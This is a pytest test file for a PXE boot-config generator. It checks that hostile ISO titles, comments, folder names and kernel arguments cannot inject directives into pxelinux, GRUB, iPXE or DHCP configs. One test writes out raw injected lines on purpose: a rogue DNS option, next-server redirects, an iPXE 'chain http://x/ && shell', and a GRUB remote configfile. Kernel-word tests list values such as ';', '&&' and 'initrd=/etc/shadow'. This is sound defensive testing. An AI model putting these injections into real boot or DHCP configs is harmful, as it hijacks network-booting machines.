"""ISO text is data, never syntax: hostile labels, names and kernel arguments in every format we write.

Each check compares with what the format's own tool or our parser sees for
the same config written from harmless text, so an injected line, command or
directive shows up as a difference.
"""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from livepxe.bootconf import FORMATS, carried_cmdline, dhcpd, dnsmasq, grub, ipxe, kea, kind_of, printable, pxelinux
from livepxe.bootconf.text import COMMENT_WIDTH, comment_lines, kernel_words, one_line

from .samples import FILES, HOSTILE, SELF
from .tools import dnsmasq_test, grub_script_check, kea_test

CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f\x85\u2028\u2029\u202e]")


def test_printable_shows_control_characters_and_cuts_long_text():
    assert printable("a\nb\x00c\x1b[2J\r\u202e") == "a\\x0ab\\x00c\\x1b[2J\\x0d\\u202e"
    assert printable("Fedora — Live") == "Fedora — Live"
    assert printable("x" * 300, 20) == "x" * 17 + "..."
    assert all(not CONTROL.search(printable(h)) for h in HOSTILE)


def test_comment_lines_are_short_printable_and_never_continued():
    for text in HOSTILE + ["x" * 1000, "a \\", "a\\\\"]:
        lines = comment_lines(text)
        assert all(line.startswith("# ") or line == "#" for line in lines)
        assert all(len(line) <= COMMENT_WIDTH and not line.endswith("\\") and not CONTROL.search(line)
                   for line in lines)


def _rendered(kind: str, title: str, comment: str) -> str:
    entries = [replace(SELF[0], title=title)]
    return FORMATS[kind].render(entries, comment)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_title_or_comment_adds_no_pxelinux_line(hostile):
    text = _rendered("pxelinux", hostile, hostile)
    plain = _rendered("pxelinux", "T", "c")
    assert [k for _, k, _ in pxelinux.statements(text)] == [k for _, k, _ in pxelinux.statements(plain)]
    assert [replace(e, title="T") for e in pxelinux.parse(text)] == pxelinux.parse(plain)
    assert not CONTROL.search(text)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_title_or_comment_adds_no_grub_command(hostile, tmp_path):
    text = _rendered("grub", hostile, hostile)
    assert grub_script_check(text, tmp_path).returncode == 0
    plain = _rendered("grub", "T", "c")
    assert [(c.name, c.depth) for c in grub.commands(text)] == [(c.name, c.depth) for c in grub.commands(plain)]
    (entry,) = grub.parse(text)
    assert entry.title == one_line(hostile) and entry.cmdline == SELF[0].cmdline
    assert not CONTROL.search(text)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_title_or_comment_adds_no_ipxe_command(hostile):
    text = _rendered("ipxe", hostile, hostile)
    plain = _rendered("ipxe", "T", "c")
    shape = [tokens[0] for _, tokens in ipxe.commands(text)]
    assert shape == [tokens[0] for _, tokens in ipxe.commands(plain)]
    assert [replace(e, title="T") for e in ipxe.parse(text)] == ipxe.parse(plain)
    assert not any(line.endswith("\\") for line in text.splitlines())
    ours = [line for line in text.splitlines() if not line.startswith("#")]  # a comment line is one comment
    assert not any(set(line.split()) & set(ipxe.SEPARATORS) or "$" in line for line in ours)
    assert not CONTROL.search(text)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_comment_adds_no_dhcp_directive(hostile, tmp_path):
    text = dnsmasq.render(FILES["self"], hostile)
    proc = dnsmasq_test(text, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert dnsmasq.directives(text) == dnsmasq.directives(dnsmasq.render(FILES["self"], "c"))
    isc = dhcpd.render(FILES["self"], hostile)
    assert dhcpd.statements(isc) == dhcpd.statements(dhcpd.render(FILES["self"], "c"))
    top = dhcpd.render_toplevel(hostile, "/srv/tftp/dhcp")
    assert dhcpd.statements(top) == dhcpd.statements(dhcpd.render_toplevel("c", "/srv/tftp/dhcp"))
    classes = kea.render(FILES["self"], hostile)
    assert kea.classes(classes) == kea.classes(kea.render(FILES["self"], "c"))
    assert not CONTROL.search(text + isc + top + classes)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_snippet_folder_adds_no_dhcp_directive(hostile, tmp_path):
    """The folder named in each snippet's include line is the admin's; whatever it holds stays a comment."""
    folder = f"/srv/{hostile}/dhcp"
    for render in (dnsmasq.render, dhcpd.render, kea.render):
        text = render(FILES["self"], "c", folder)
        assert [line for line in text.splitlines() if not line.startswith("#")] == \
            [line for line in render(FILES["self"], "c").splitlines() if not line.startswith("#")]
        assert not CONTROL.search(text)
    assert kea_test(kea.render(FILES["self"], "c", folder), tmp_path).returncode == 0


def test_the_checkers_see_injected_lines_when_nothing_cleans_them(tmp_path):
    """The comparisons above can fail: raw, these strings are directives to the real tools."""
    raw = dnsmasq.render(FILES["self"], "c") + "# c\ndhcp-option=6,6.6.6.6\n"
    assert dnsmasq_test(raw, tmp_path).returncode == 0 and ("dhcp-option", "6,6.6.6.6") in dnsmasq.directives(raw)
    raw_grub = grub.render(SELF, "c").replace("# c\n", "# c\nconfigfile (http,x)/y\n")
    assert grub_script_check(raw_grub, tmp_path).returncode == 0
    assert "configfile" in [c.name for c in grub.commands(raw_grub) if c.depth == 0]
    raw_ipxe = ipxe.render(SELF, "c").replace("echo Loading", "echo L ; chain http://x/ && shell ; echo")
    assert {"chain", "shell"} <= {tokens[0] for _, tokens in ipxe.commands(raw_ipxe)}
    raw_dhcpd = dhcpd.render(FILES["self"], "c").replace("# c\n", "# c\nnext-server 6.6.6.6;\n")
    assert ("next-server", "6.6.6.6") in [s.tokens for s in dhcpd.statements(raw_dhcpd)]
    raw_kea = kea.render(FILES["self"], "c").replace("# c\n", '# c\n{ "name": "x", "next-server": "6.6.6.6" },\n')
    assert kea_test(raw_kea, tmp_path).returncode == 0
    assert {"name": "x", "next-server": "6.6.6.6"} in kea.classes(raw_kea)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_kernel_words_are_dropped_and_named_or_carried_intact(hostile, tmp_path):
    cmdline = "root=live:/F.iso ro " + hostile
    kept, dropped = carried_cmdline(cmdline)
    assert sorted(kernel_words(kept) + dropped) == sorted(kernel_words(cmdline))
    assert kernel_words(kept)[:2] == ["root=live:/F.iso", "ro"]
    entry = [replace(SELF[0], cmdline=kept)]
    for kind, module in FORMATS.items():
        text = module.render(entry, "c")
        (parsed,) = module.parse(text)
        assert parsed.cmdline == kept, kind
        for word in dropped:  # a renderer given a word it cannot carry refuses it, whatever its caller did
            if not module.carries(word):
                with pytest.raises(ValueError):
                    module.render([replace(SELF[0], cmdline=word)], "c")
    assert grub_script_check(grub.render(entry, "c"), tmp_path).returncode == 0


@pytest.mark.parametrize("word", ["a\x00b", "a\x1bb", "$x", "${x}", ";", "&&", "||", "#c", "x\\", "it's", 'a"b',
                                  "initrd=/etc/shadow", "é", "a\u00a0b", "a\x1cb", '"unbalanced', 'x="a  b"'])
def test_words_no_format_may_carry_in_common_are_dropped(word):
    kept, dropped = carried_cmdline(f"ro quiet {word}")
    assert kept == "ro quiet" and dropped == [word]


def test_kind_of_knows_only_boot_entry_configs():
    assert [kind_of(p) for p in ("pxelinux.cfg/default", "pxelinux.cfg/01-52-54-00-12-34-56", "grub/grub.cfg",
                                 "grub.cfg", "grub/live.f41.cfg", "live/f41/boot.ipxe", "dhcp/dnsmasq.conf",
                                 "livepxe.json", "grub/x86_64-efi/grub.efi")] == [
        "pxelinux", "pxelinux", "grub", "grub", "grub", "ipxe", None, None, None]
